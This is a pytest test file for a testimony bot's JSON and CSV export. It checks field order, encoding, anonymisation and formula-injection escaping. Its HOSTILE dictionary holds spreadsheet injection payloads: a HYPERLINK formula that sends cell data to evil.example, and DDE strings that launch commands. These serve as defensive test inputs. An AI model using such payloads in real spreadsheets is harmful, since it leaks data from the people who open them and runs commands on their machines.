"""Export: exactly the spec's fields, in order; CSV conventions; the command line."""

from __future__ import annotations

import codecs
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from bot.__main__ import main
from bot.export import export_bytes, export_records, to_csv, to_json
from bot.fields import EXPORT_FIELDS, IDENTIFYING_FIELDS
from bot.storage.db import session_factory
from bot.storage.filters import TestimonyFilters
from bot.storage.models import AuditLog
from bot.storage.testimonies import save_testimony

MakeRecord = Callable[..., dict[str, Any]]


def _save(record: dict, submission_id: str) -> str:
    return save_testimony(
        record, submission_id=submission_id, sender_id=f"s-{submission_id}", channel="rest"
    ).reference


def test_json_export_has_exactly_the_spec_fields_in_order(
    db_url: str, make_record: MakeRecord
) -> None:
    reference = _save(make_record(), "a")
    (record,) = json.loads(to_json(export_records(None)))
    assert list(record) == list(EXPORT_FIELDS)
    assert record["reference"] == reference
    assert record["problems"] == ["account_termination", "payment_withheld", "no_contact"]
    assert record["created_at"].endswith("Z") and len(record["created_at"]) == 20
    assert record["started_on"] == "2026-03-15"
    assert record["anonymous"] is False and record["wants_contact"] is True
    assert record["estimated_loss_eur"] == 15000 and record["status"] == "new"


def test_json_keeps_accents_and_is_indented(db_url: str, make_record: MakeRecord) -> None:
    _save(make_record(description="Compte fermé, 15 000 €"), "a")
    text = to_json(export_records())
    assert "Compte fermé, 15 000 €" in text
    assert text.startswith('[\n  {\n    "reference": ')


def test_csv_joins_problems_with_semicolons(db_url: str, make_record: MakeRecord) -> None:
    _save(make_record(), "a")
    _save(make_record(anonymous=True, started_on=None, estimated_loss_eur=None), "b")
    text = to_csv(export_records())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(EXPORT_FIELDS)
    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert first["problems"] == "account_termination;payment_withheld;no_contact"
    assert first["anonymous"] == "false" and first["wants_contact"] == "true"
    assert first["revenue_share_pct"] == "80" and first["siren"] == "732829320"
    assert second["anonymous"] == "true"
    assert second["started_on"] == "" and second["estimated_loss_eur"] == ""
    assert all(second[name] == "" for name in IDENTIFYING_FIELDS)
    assert text.endswith("\r\n")


HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("start", list(HOSTILE))
def test_csv_neutralises_formulas_in_text_cells(
    db_url: str, make_record: MakeRecord, start: str
) -> None:
    hostile = HOSTILE[start]
    _save(
        make_record(
            platform="other",
            platform_other=hostile,
            description=hostile,
            sector=hostile,
            company_name=hostile,
            contact_name=hostile,
        ),
        "a",
    )
    (row,) = csv.DictReader(io.StringIO(to_csv(export_records()), newline=""))
    for name in ("platform_other", "description", "sector", "company_name", "contact_name"):
        assert row[name] == "'" + hostile.strip(), name  # saving strips blanks
    assert row["phone"] == "'+33612345678"  # a text cell too: Excel would drop the '+'


def test_csv_leaves_safe_text_and_numbers_alone(db_url: str, make_record: MakeRecord) -> None:
    _save(make_record(description="Compte fermé le 3 mars = 15 000 € perdus", sector="a=b"), "a")
    (row,) = csv.DictReader(io.StringIO(to_csv(export_records())))
    assert row["description"] == "Compte fermé le 3 mars = 15 000 € perdus"
    assert row["sector"] == "a=b"
    assert row["estimated_loss_eur"] == "15000" and row["revenue_share_pct"] == "80"
    assert row["created_at"][0].isdigit() and row["problems"].startswith("account_termination")


def test_csv_neutralises_cells_starting_with_a_tab_or_carriage_return() -> None:
    record = dict.fromkeys(EXPORT_FIELDS)
    record.update(description=HOSTILE["tab"], sector=HOSTILE["cr"], problems=[])
    (row,) = csv.DictReader(io.StringIO(to_csv([record]), newline=""))
    assert row["description"] == "'\t=1+1" and row["sector"] == "'\r=1+1"


def test_only_string_cells_are_escaped() -> None:
    record = dict.fromkeys(EXPORT_FIELDS)
    record.update(estimated_loss_eur=-5, revenue_share_pct=0, description="-5", problems=[])
    (row,) = csv.DictReader(io.StringIO(to_csv([record])))
    assert row["estimated_loss_eur"] == "-5" and row["revenue_share_pct"] == "0"
    assert row["description"] == "'-5"


def test_json_keeps_hostile_text_as_typed(db_url: str, make_record: MakeRecord) -> None:
    _save(make_record(description=HOSTILE["="], sector="@jouets"), "a")
    (record,) = json.loads(to_json(export_records()))
    assert record["description"] == HOSTILE["="] and record["sector"] == "@jouets"
    assert record["phone"] == "+33612345678"


def test_hostile_csv_is_the_same_bytes_from_the_command_line(
    db_url: str, make_record: MakeRecord, tmp_path: Path
) -> None:
    _save(make_record(description=HOSTILE["+"], platform="other", platform_other="=1+1"), "a")
    output = tmp_path / "out.csv"
    assert main(["export", "--format", "csv", "--output", str(output)]) == 0
    assert output.read_bytes() == export_bytes(export_records(), "csv")
    assert b"'=1+1" in output.read_bytes()


def test_anonymous_testimony_exports_no_identifying_field(
    db_url: str, make_record: MakeRecord
) -> None:
    _save(make_record(anonymous=True), "a")
    (record,) = export_records()
    assert all(record[name] is None for name in IDENTIFYING_FIELDS)
    assert record["wants_contact"] is False and record["share_with_platform"] is False


def test_export_applies_filters(db_url: str, make_record: MakeRecord) -> None:
    _save(make_record(platform="amazon"), "a")
    _save(make_record(platform="ebay", problems=["reviews"]), "b")
    assert [r["platform"] for r in export_records(TestimonyFilters(platform="ebay"))] == ["ebay"]
    assert [r["platform"] for r in export_records(TestimonyFilters(problem="no_contact"))] == [
        "amazon"
    ]


def test_export_command_writes_the_same_bytes_as_the_library(
    db_url: str, make_record: MakeRecord, tmp_path: Path
) -> None:
    _save(make_record(), "a")
    _save(make_record(platform="ebay", anonymous=True), "b")
    for fmt, render, encoding in (("json", to_json, "utf-8"), ("csv", to_csv, "utf-8-sig")):
        output = tmp_path / f"out.{fmt}"
        assert main(["export", "--format", fmt, "--output", str(output)]) == 0
        assert output.read_bytes() == render(export_records()).encode(encoding)
    with session_factory(db_url)() as session:
        actions = session.execute(select(AuditLog.action)).scalars().all()
    assert actions == ["export", "export"]


def test_csv_starts_with_a_bom_for_excel_and_json_does_not(
    db_url: str, make_record: MakeRecord, capsysbinary: pytest.CaptureFixture
) -> None:
    _save(make_record(description="Compte fermé, préavis non respecté"), "a")
    records = export_records()
    csv_bytes, json_bytes = export_bytes(records, "csv"), export_bytes(records, "json")
    assert csv_bytes.startswith(codecs.BOM_UTF8) and not csv_bytes.startswith(codecs.BOM_UTF8 * 2)
    assert "Compte fermé, préavis non respecté" in csv_bytes.decode("utf-8-sig")
    assert json_bytes.startswith(b"[") and json.loads(json_bytes)[0]["description"].endswith("cté")
    # the same bytes on standard output as in a file
    assert main(["export", "--format", "csv"]) == 0
    assert capsysbinary.readouterr().out == csv_bytes


def test_export_command_filters_and_writes_to_stdout(
    db_url: str, make_record: MakeRecord, capsys: pytest.CaptureFixture
) -> None:
    _save(make_record(), "a")
    _save(make_record(anonymous=True), "b")
    assert main(["export", "--anonymous", "true", "--since", "2000-01-01"]) == 0
    records = json.loads(capsys.readouterr().out)
    assert [r["anonymous"] for r in records] == [True]


def test_export_command_refuses_unknown_codes(db_url: str, capsys: pytest.CaptureFixture) -> None:
    assert main(["export", "--platform", "wish"]) == 2
    assert "unknown platform" in capsys.readouterr().err


def test_export_before_migrations_says_what_to_do(tmp_path, monkeypatch, capsys) -> None:
    from bot.__main__ import main
    from bot.settings import get_settings
    from bot.storage import db

    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'empty.db'}")
    get_settings.cache_clear()
    db.clear_cache()
    try:
        assert main(["export"]) == 1
    finally:
        get_settings.cache_clear()
        db.clear_cache()
    assert "db upgrade" in capsys.readouterr().err
